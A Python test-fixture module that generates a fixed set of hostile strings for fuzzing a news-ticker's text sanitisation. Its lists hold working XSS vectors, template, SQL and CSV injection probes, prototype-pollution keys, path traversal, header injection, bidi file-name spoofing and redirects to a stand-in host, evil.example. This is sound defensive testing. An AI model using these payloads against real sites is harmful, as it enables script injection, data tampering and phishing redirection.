"""A thousand hostile texts, the same each time. Knows what the node accepts (ticker/text.py); knows no page."""

from __future__ import annotations

import random
import unicodedata

import regex

from ticker.text import one_line

PWN = "window.__pwned=1"
MARKUP = [
    f"<script>{PWN}</script>",
    f"<img src=x onerror={PWN}>",
    f"<svg/onload={PWN}>",
    f"<iframe srcdoc='<script>parent.{PWN}</script>'></iframe>",
    f"<details open ontoggle={PWN}>",
    f'<a href="javascript:{PWN}">Read on</a>',
    f"<a href='data:text/html,<script>{PWN}</script>'>Read on</a>",
    f"\"><b onmouseover='{PWN}'>",
    f"' autofocus onfocus={PWN} x='",
    f"</style><style>@import '//evil.example/x';</style><script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f"</title></textarea></template></noscript><img src=x onerror={PWN}>",
    f"<![CDATA[ ]]><script>{PWN}</script> ]]>",
    f"<!-- --!><img src=x onerror={PWN}> -->",
    f"<math><mtext><mglyph><style><img src onerror={PWN}>",
    f"<template shadowrootmode=open><script>{PWN}</script></template>",
    f"</bdi></p></li></ol></breaking-ticker><script>{PWN}</script>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button formaction=//evil.example>Send</button></form>",
    "<h1 style='position:fixed;inset:0;font-size:999px'>",
    "<slot name=label></slot><div slot=label>",
    "<br>\u00a0<wbr>&shy;&nbsp;<plaintext>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{PWN}</x:script>",
]
ENTITIES = [
    "&lt;script&gt;",
    "&amp;lt;b&amp;gt;",
    "&#60;img&#62;",
    "&#x202e;",
    "&NewLine;",
    "&notit;",
    "&",
    "&&amp;&",
    "&#0;",
]
PROGRAMS = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}{{ config }}{% endraw %}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "`${window.__pwned=1}`",
    f"javascript:{PWN}",
    f"JaVaScRiPt:{PWN}//",
    f"data:text/html,<script>{PWN}</script>",
    "Robert'); DROP TABLE lines;--",
    "' OR '1'='1",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    '{"__proto__": {"polluted": 1}}',
    "[object Object]",
    "undefined",
    "null",
    "NaN",
    "\\u0000\\x00%00",
    '\\";alert(1);//',
    "$& $1 $` $'",
    "%s %d %n %x",
    "../../../../etc/passwd",
    "event: line",
    "data: {}",
    "https://evil.example/?q=<b>&x=%3Cscript%3E#'\"",
    "]]>",
    "*/ } body { display: none } /*",
    "expression(alert(1)) url(//evil.example/x)",
    "@import url(//evil.example/x);",
    '=HYPERLINK("//evil.example")',
    "0",
    "-1e309",
]
BIDI = [
    "\u2066abc \u05d0\u05d1\u05d2\u2069 def",
    "\u2067abc (\u05d0\u05d1\u05d2) 123\u2069 def",
    "\u2068\u202babc\u202c\u2069 def",
    "\u202a\u202b\u202aabc\u202c\u202c\u202c",
    "\u2066" * 20 + "deep" + "\u2069" * 20,
    "\u200fabc\u200e\u05d0\u05d1\u061c123",
    "\u05d0\u05d1\u05d2 <script> 123 (abc) \u05d3\u05d4",
    "عاجل: <b>abc</b> ١٢٣ (def)",
    "invoice\u200f\u2067gpj\u2069.exe",
    "\u200b\u200c\u200d\u2060\ufeffa\u00ad\u034fb",
]
SCRIPTS = [
    "突发新闻港口大桥重新开放" * 20,
    "ด่วนสะพานท่าเรือเปิดอีกครั้ง" * 12,
    "नमस्ते क्ष्म्य श्रीमान् " * 10,
    "한국어속보입니다" * 30,
    "ﷺ﷽ 𒐫𒈙꧅" * 8,
    "مـــــــــــــــــــــــــــــــــــ" * 6,
    "𝕳𝖔𝖘𝖙𝖎𝖑𝖊 ℌ𝔬𝔰𝔱𝔦𝔩𝔢 🅷🅾🆂🆃" * 6,
    "\u0301\u0302\u0303a",
    "་།༄༅" * 30,
]
EMOJI = [
    "👨‍👩‍👧‍👦👩🏽‍🚒🏳️‍🌈🏴‍☠️",
    "🇺🇦🇪🇬🇫🇷🇺🇳🇪",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿👁️‍🗨️",
    "👍🏿👍🏻❤️‍🔥1️⃣#️⃣",
    "a\u20e3\u20dd\u20de",
    "🙂" * 200,
    "‼️⁉️™️©️",
]
WORDS = [
    "W" * 280,
    "Donaudampfschifffahrtsgesellschaftskapitän" * 6,
    "https://example.org/" + "a" * 250,
    "i" * 280,
    "_" * 280,
    "a-" * 140,
    "\u00a0".join(["fixed"] * 45),
    "aaaa\u2060" * 50,
    "﷽" * 100,
    "—" * 200,
]
CLOSED_BY = dict.fromkeys("\u202a\u202b", "\u202c") | dict.fromkeys("\u2066\u2067\u2068", "\u2069")
KINDS = (MARKUP, ENTITIES, PROGRAMS, BIDI, SCRIPTS, EMOJI, WORDS)

REFUSED = ["abc\u202edef", "abc\ufff9def", "abc\x00def", "a\nb", "\u200f\u200e", "a" + "\u0301" * 33, "a" * 281]
REFUSED_URLS = [
    f"javascript:{PWN}",
    f"data:text/html,<script>{PWN}</script>",
    "//evil.example/",
    "https://user@evil.example/",
    'https://paper.example/"onclick="x',
    "vbscript:x",
    "blob:https://paper.example/1",
]
URLS = [
    "https://paper.example/?a=1&b=%3Cscript%3E&c='onclick='x#&lt;",
    "https://paper.example/" + "a" * 2_000,
    "http://paper.example/*/--;]]$(x)/%00%0d%0aSet-Cookie:x/../..",
]


def texts(number: int = 1_000) -> list[str]:
    """All of the above by themselves, then with one another."""
    chance = random.Random(5)
    found = list(dict.fromkeys(fit(text) for kind in KINDS for text in kind))
    while len(found) < number:
        first, second = (chance.choice(chance.choice(KINDS)) for _ in range(2))
        zalgo = "".join(chr(chance.randrange(0x300, 0x36F)) for _ in range(chance.choice([0, 0, 8, 25])))
        text = chance.choice([f"{first} {second}", f"Z{zalgo}a{zalgo}lgo {first}", f"{second}{first}", f"“{first}”"])
        text = fit(text)
        if text not in found:
            found.append(text)
    return found


def fit(text: str, most: int = 280) -> str:
    """So much of it as the node takes, as it then stands: cut, and closed what the cut left open."""
    text = regex.sub(r"(\p{M}{30})\p{M}+", r"\1", unicodedata.normalize("NFC", regex.sub(" +", " ", text)))
    characters = regex.findall(r"\X", text)
    room = most
    while len(regex.findall(r"\X", fitted := closed("".join(characters[:room])))) > most:
        room -= 1
    return one_line(fitted, most)


def closed(text: str) -> str:
    """With every embedding and isolate closed, and no more."""
    opened: list[str] = []
    kept = []
    for character in text:
        if character in CLOSED_BY:
            opened.append(CLOSED_BY[character])
        elif character in CLOSED_BY.values() and (not opened or opened.pop() != character):
            continue
        kept.append(character)
    return "".join([*kept, *reversed(opened)]).strip()
